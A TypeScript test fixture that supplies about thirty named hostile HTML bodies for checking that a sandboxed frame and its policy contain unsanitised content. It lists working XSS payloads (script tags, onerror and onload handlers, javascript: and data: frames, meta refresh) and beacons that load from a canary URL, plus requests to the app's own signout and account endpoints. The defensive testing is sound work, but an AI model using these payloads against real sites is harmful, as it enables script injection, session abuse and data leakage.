/**
 * Bodies as no sanitizer would leave them: put before the browser raw, so that what holds is the frame and its
 * policy alone. Each tries to run script (`parent.pwned`, `top.pwned`), to load from `canary`, or to leave its frame.
 */
export function hostileBodies(canary: string): [name: string, html: string][] {
  const run = `fetch('${canary}/ran');try{parent.pwned=1}catch(e){}try{top.pwned=1}catch(e){}`
  return [
    ['script', `<script>${run}</script>`],
    ['script of its own part', '<script src="inline/0"></script>'],
    ['script from elsewhere', `<script src="${canary}/s.js"></script>`],
    ['image error', `<img src=x onerror="${run}">`],
    ['body load', `<body onload="${run}">`],
    ['svg load', `<svg onload="${run}"></svg>`],
    ['svg animate', `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`],
    ['details toggle', `<details open ontoggle="${run}">x</details>`],
    [
      'style animation',
      `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${run}">x</b>`,
    ],
    ['autofocus', `<input autofocus onfocus="${run}">`],
    ['frame of script', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
    ['frame of javascript', `<iframe src="javascript:${run}"></iframe>`],
    ['frame of data', `<iframe src="data:text/html,<script>${run}</script>"></iframe>`],
    ['object', `<object data="${canary}/o"></object><embed src="${canary}/e">`],
    ['refresh', `<meta http-equiv=refresh content="0;url=${canary}/refresh">`],
    ['refresh to script', `<meta http-equiv=refresh content="0;url=javascript:${run}">`],
    [
      'form sent by itself',
      `<form id=f action="${canary}/form"><input name=a value=b></form><script>f.submit()</script>`,
    ],
    ['base', `<base href="${canary}/"><img src="based.png">`],
    [
      'image',
      `<img src="${canary}/i.png"><img srcset="${canary}/i2.png 1x"><picture><source srcset="${canary}/i3.png"><img></picture>`,
    ],
    ['protocol-relative image', `<img src="${canary.replace('http:', '')}/p.png">`],
    ['background', `<table background="${canary}/b.png"><td background="${canary}/b2.png">x</table>`],
    ['style url', `<div style="background:url(${canary}/c.png);list-style:url(${canary}/l.png)">x</div>`],
    [
      'style import',
      `<style>@import "${canary}/i.css";b{background:image-set("${canary}/is.png" 1x)}</style><b>x</b>`,
    ],
    ['font', `<style>@font-face{font-family:f;src:url(${canary}/f.woff)}*{font-family:f}</style>x`],
    [
      'link elements',
      `<link rel=stylesheet href="${canary}/s.css"><link rel=preload as=image href="${canary}/pl"><link rel=prefetch href="${canary}/pf"><link rel=dns-prefetch href="${canary}">`,
    ],
    [
      'media',
      `<video src="${canary}/v" poster="${canary}/po" autoplay></video><audio src="${canary}/a" autoplay></audio><track src="${canary}/t">`,
    ],
    [
      'svg use and image',
      `<svg><use href="${canary}/u#a"/><image href="${canary}/im"/><style>@import "${canary}/sv.css"</style></svg>`,
    ],
    [
      'our own addresses',
      '<img src="/api/v1/account"><img src="/api/auth/signout"><link rel=stylesheet href="/own.css">',
    ],
    ['manifest and icon', `<link rel=manifest href="${canary}/m"><link rel=icon href="${canary}/ic">`],
    ['cover the page', '<div style="position:fixed;inset:0;z-index:99999;background:red" id=cover>x</div>'],
  ]
}
